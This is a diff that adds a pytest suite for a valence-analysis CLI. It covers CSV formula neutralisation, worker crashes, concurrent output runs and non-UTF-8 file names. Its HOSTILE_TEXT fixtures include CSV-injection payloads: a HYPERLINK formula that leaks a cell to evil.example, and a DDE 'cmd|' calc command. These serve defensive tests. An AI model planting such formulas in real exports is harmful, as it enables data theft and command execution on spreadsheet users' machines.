@@ -1,0 +1,253 @@
+"""Studies under hostile conditions (issue 22, items 1-9), with real processes where the
+defect needs them: CSV cells that are not code and read back as written, a worker killed
+while it sends its result, concurrent runs on one --out, non-UTF-8 file names, sessions
+whose output directories would collide, the folder search's skipped entries, a bag whose
+metadata lies, a full disk, --jobs caps and the worker's memory."""
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import signal
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import numpy as np
+import pandas as pd
+import pytest
+
+from test_analyze_cli import ep_topic, run, session, write_bag, write_facereader
+from valence_ros.offline.csv_cells import FORMULA_TRIGGERS, csv_bytes, original_text, text_cell
+from valence_ros.offline.study_pool import SEND_PAUSE_ENV, SEND_STAGES
+
+PROCESS_TIMEOUT = 180   # s: a hang fails the test instead of the session
+
+
+def _study_cmd(*args) -> list[str]:
+    return [sys.executable, "-P", "-m", "valence_ros.offline.analyze", *map(str, args)]
+
+
+def _two_inputs(root: Path, n: int = 60) -> Path:
+    root.mkdir()
+    for name in ("a", "b"):
+        write_bag(root / name, "mcap", {"/emotion_probabilities": ep_topic(session(n, faces=(name,)))})
+    return root
+
+
+def _inputs_of(out: Path) -> list[tuple[str, str]]:
+    return [(e["session"], e["status"]) for e in json.loads((out / "study.json").read_text())["inputs"]]
+
+
+# ---------------------------------------------------------------------- items 6 and 7: CSV cells
+
+HOSTILE_TEXT = ["alice\rbob", "carol\ndave", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+                "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tlead-tab", "\rlead-cr",
+                "'already quoted", "a,b;c", 'say "hi"', " padded ", "\uff1dSUM(1)", "\0nul"]
+ORDINARY_TEXT = ["alice", "face 7", "-1", "+3", "-0.125", "1e-3", "", "p01/rec", "José", "a-b", "x=y"]
+
+
+def _read_back(data: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(data.decode(), newline="")))
+
+
+def test_text_cells_are_no_formulas_and_read_back_exactly():
+    rows = [[text, -0.5, 3, None, "-0.250000000"] for text in HOSTILE_TEXT + ORDINARY_TEXT]
+    data = csv_bytes(rows, header=["face_id", "x", "n", "none", "fmt"])
+    back = _read_back(data)
+    assert back[0] == ["face_id", "x", "n", "none", "fmt"] and len(back) == len(rows) + 1
+    for (text, *_), got in zip(rows, back[1:]):
+        cell = got[0]
+        lead = cell.lstrip(" ")[:1]
+        assert not (lead in FORMULA_TRIGGERS and cell not in ORDINARY_TEXT), repr(cell)  # never a formula
+        assert original_text(cell) == text.replace("\0", "\ufffd")   # NUL ends a cell for pandas and R
+        assert got[1:] == ["-0.5", "3", "", "-0.250000000"]    # numbers are numbers, never neutralised
+    for text in ORDINARY_TEXT:       # ordinary names and numbers are written as they are
+        assert text_cell(text) == text
+    assert text_cell("=1+1") == "'=1+1" and text_cell("alice\rbob") == '"alice\rbob"'
+    # pandas reads as many rows as were written, with the same text
+    frame = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)
+    assert [original_text(c) for c in frame["face_id"]] == [r[0].replace("\0", "\ufffd") for r in rows]
+
+
+def test_study_csvs_keep_rows_and_neutralise_formulas(tmp_path, capsys):
+    data = tmp_path / "data"
+    data.mkdir()
+    faces = ("alice\rbob", "=HYPERLINK(\"http://evil.example\",\"x\")", "-1", "plain")
+    write_bag(data / "=HYPERLINK(\"http:__evil\")", "mcap",
+              {"/emotion_probabilities": ep_topic(session(40, faces=faces))})
+    write_bag(data / "p02", "sqlite3", {"/emotion_probabilities": ep_topic(session(30, faces=("-0.5",)))})
+    out = tmp_path / "o"
+    code, _, stderr = run([data, "--out", out, "-q", "--jobs", "1", "--no-plots"], capsys)
+    assert code == 0, stderr
+    hostile_session = "=HYPERLINK(\"http:__evil\")"
+    sessions = pd.read_csv(out / "sessions.csv", dtype=str, keep_default_na=False)
+    assert len(sessions) == len(faces) + 1       # a bare CR used to split a row: pandas read a session "bob"
+    got = sorted(zip(map(original_text, sessions["session"]), map(original_text, sessions["face_id"])))
+    assert got == sorted([(hostile_session, f) for f in faces] + [("p02", "-0.5")])
+    assert sessions["session"].str.startswith("'=").sum() == len(faces)
+    assert not sessions["face_id"].str.startswith("=").any()
+    assert "-1" in set(sessions["face_id"]) and "-0.5" in set(sessions["face_id"])   # numbers stay numbers
+    assert (sessions["valence_min"].astype(float) < 0).any()   # and so do negative values
+    episodes = pd.read_csv(out / "episodes.csv", dtype=str, keep_default_na=False)
+    assert set(map(original_text, episodes["face_id"])) == set(faces) | {"-0.5"}
+    assert not episodes["session"].str.startswith("=").any()
+    per_input = pd.read_csv(out / f"{hostile_session}_valence" / "valence.csv", dtype=str, keep_default_na=False)
+    assert len(per_input) == 40 * len(faces)
+    assert set(map(original_text, per_input["face_id"])) == set(faces)
+    assert not per_input["face_id"].str.startswith("=").any()
+
+
+# ---------------------------------------------------------------------- item 1: a worker killed while sending
+
+
+@pytest.mark.parametrize("stage", SEND_STAGES)
+def test_a_worker_killed_while_sending_its_result_fails_its_input_only(tmp_path, stage):
+    """The first result message stops at `stage` (test hook); SIGKILL there. The parent used
+    to block for good reading the rest of the message."""
+    data = _two_inputs(tmp_path / "data")
+    marker = tmp_path / "paused"
+    env = {**os.environ, SEND_PAUSE_ENV: f"{stage}:{marker}"}
+    proc = subprocess.Popen(_study_cmd(data, "--out", tmp_path / "o", "-q", "--jobs", "1", "--no-plots"),
+                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env)
+    try:
+        deadline = time.monotonic() + PROCESS_TIMEOUT
+        while not (marker.exists() and marker.read_text()) and proc.poll() is None:
+            assert time.monotonic() < deadline, "the worker never reached the pause"
+            time.sleep(0.02)
+        os.kill(int(marker.read_text()), signal.SIGKILL)   # the worker holding input "a"
+        _, stderr = proc.communicate(timeout=PROCESS_TIMEOUT)
+    finally:
+        if proc.poll() is None:
+            proc.kill()
+            proc.wait()
+    assert proc.returncode == 3, stderr
+    assert "a: FAILED: the worker process died (exit code -9" in stderr
+    assert _inputs_of(tmp_path / "o") == [("a", "failed"), ("b", "ok")]
+    assert sorted(p.name for p in (tmp_path / "o").iterdir()) == [
+        "b_valence", "episodes.csv", "frames.parquet", "sessions.csv", "study.json"]
+
+
+# ---------------------------------------------------------------------- item 2: two runs, one --out
+
+
+def _paused_study(data: Path, out: Path, marker: Path, *extra) -> subprocess.Popen:
+    """A study run that stops in the middle (its first result paused by the test hook), holding --out."""
+    env = {**os.environ, SEND_PAUSE_ENV: f"after-header:{marker}"}
+    proc = subprocess.Popen(_study_cmd(data, "--out", out, "-q", "--jobs", "1", "--no-plots", *extra),
+                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env)
+    deadline = time.monotonic() + PROCESS_TIMEOUT
+    while not (marker.exists() and marker.read_text()):
+        assert proc.poll() is None and time.monotonic() < deadline, "the study never reached the pause"
+        time.sleep(0.02)
+    return proc
+
+
+def _no_leftovers(out: Path) -> bool:
+    return not [p.name for p in out.parent.iterdir()
+                if p.name.startswith((out.name + ".tmp-", out.name + ".old-", f".{out.name}.lock"))]
+
+
+def test_a_second_run_on_a_claimed_out_fails_at_once(tmp_path):
+    first = _two_inputs(tmp_path / "first")
+    second = tmp_path / "second"
+    second.mkdir()
+    write_bag(second / "z", "sqlite3", {"/emotion_probabilities": ep_topic(session(30, faces=("z",)))})
+    out, marker = tmp_path / "o", tmp_path / "paused"
+    holder = _paused_study(first, out, marker)
+    try:
+        for argv in ([second, "--out", out], [second, "--out", out, "--overwrite"],
+                     [second / "z", "--out", out, "--overwrite"]):     # a single-input run shares the code
+            other = subprocess.run(_study_cmd(*argv, "-q", "--no-plots"), capture_output=True, text=True,
+                                   timeout=PROCESS_TIMEOUT)
+            assert other.returncode == 2, other.stderr
+            assert "another valence_analyze run is writing it" in other.stderr, other.stderr
+        os.kill(int(marker.read_text()), signal.SIGKILL)
+        _, stderr = holder.communicate(timeout=PROCESS_TIMEOUT)
+    finally:
+        if holder.poll() is None:
+            holder.kill()
+            holder.wait()
+    assert holder.returncode == 3, stderr
+    assert _inputs_of(out) == [("a", "failed"), ("b", "ok")]   # the first run's study, whole
+    assert _no_leftovers(out)
+
+
+@pytest.mark.parametrize("overwrite", [False, True])
+def test_two_concurrent_studies_on_one_out_never_both_win(tmp_path, overwrite):
+    data = {}
+    for name in ("x", "y"):
+        data[name] = tmp_path / f"data_{name}"
+        data[name].mkdir()
+        write_bag(data[name] / name, "mcap", {"/emotion_probabilities": ep_topic(session(200, faces=(name,)))})
+    out = tmp_path / "o"
+    extra = ["--overwrite"] if overwrite else []
+    for _ in range(2):
+        procs = {name: subprocess.Popen(_study_cmd(data[name], "--out", out, "-q",
+                                                   "--no-plots", "--jobs", "1", *extra),
+                                        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+                 for name in ("x", "y")}
+        results = {name: (p.wait(timeout=PROCESS_TIMEOUT), p.stderr.read()) for name, p in procs.items()}
+        for p in procs.values():
+            p.stdout.close()
+            p.stderr.close()
+        winners = [name for name, (code, _) in results.items() if code == 0]
+        for code, stderr in results.values():
+            assert code in (0, 2), stderr
+            if code == 2:
+                assert "another valence_analyze run is writing it" in stderr or "output directory exists" in stderr
+        if not overwrite:
+            assert len(winners) == 1 or (out.exists() and not winners), results   # the second round: both refused
+        assert winners or not overwrite
+        if winners:
+            sessions = {e["session"] for e in json.loads((out / "study.json").read_text())["inputs"]}
+            assert sessions in ({"x"}, {"y"})
+            if len(winners) == 1:
+                assert sessions == set(winners)
+            # the study in place is whole and belongs to one run: its table agrees with its inputs
+            frames = pd.read_parquet(out / "frames.parquet")
+            assert set(frames["session"].astype(str)) == sessions
+        assert _no_leftovers(out)
+
+
+# ---------------------------------------------------------------------- item 3: non-UTF-8 file names
+
+
+def _facereader_export(path: Path, seed: int = 5) -> None:
+    rng = np.random.default_rng(seed)
+    tmp = write_facereader(path.parent / "tmp-export.txt", [(i * 40_000_000, list(rng.random(7))) for i in range(50)])
+    os.rename(tmp, path)
+
+
+def test_a_non_utf8_file_name_is_an_input_like_any_other(tmp_path):
+    data = tmp_path / "data"
+    data.mkdir()
+    latin1 = Path(os.fsdecode(bytes(data) + b"/Jos\xe9.csv"))            # a Latin-1 name, not UTF-8
+    _facereader_export(latin1)
+    _facereader_export(data / "Jos\\xe9.csv", seed=6)   # a valid name that reads like its escape
+    write_bag(data / "p01", "mcap", {"/emotion_probabilities": ep_topic(session(30, faces=("a",)))})
+    out = tmp_path / "o"
+    proc = subprocess.run(_study_cmd(data, "--out", out, "--jobs", "2", "--no-plots"), capture_output=True,
+                          timeout=PROCESS_TIMEOUT)
+    assert proc.returncode == 0, proc.stderr
+    assert b"Jos\\xe9~2  ok" in proc.stdout and b"3 of 3 inputs analysed" in proc.stdout
+    study = json.loads((out / "study.json").read_text(encoding="utf-8"))
+    entries = {e["session"]: e for e in study["inputs"]}
+    # names are text: the file name's byte 0xE9 is written \xe9 (printable()); equal names get ~2
+    assert entries["Jos\\xe9"]["path"] == str(data / "Jos\\xe9.csv")
+    assert entries["Jos\\xe9~2"]["path"] == str(data) + "/Jos\\xe9.csv"
+    assert all(e["status"] == "ok" for e in entries.values())
+    sessions = pd.read_csv(out / "sessions.csv", dtype=str, keep_default_na=False)
+    assert sorted(set(sessions["session"])) == ["Jos\\xe9", "Jos\\xe9~2", "p01"]
+    assert sorted(set(pd.read_parquet(out / "frames.parquet")["session"].astype(str))) == \
+        ["Jos\\xe9", "Jos\\xe9~2", "p01"]
+    summary = json.loads((out / entries["Jos\\xe9~2"]["output"] / "summary.json").read_text(encoding="utf-8"))
+    assert summary["input"]["path"] == str(data) + "/Jos\\xe9.csv"
+    alone = subprocess.run(_study_cmd(latin1, "--out", tmp_path / "alone", "--no-plots"), capture_output=True,
+                           timeout=PROCESS_TIMEOUT)
+    assert alone.returncode == 0, alone.stderr
+    assert (tmp_path / "alone" / "valence.csv").read_bytes() == \
+        (out / entries["Jos\\xe9~2"]["output"] / "valence.csv").read_bytes()
+
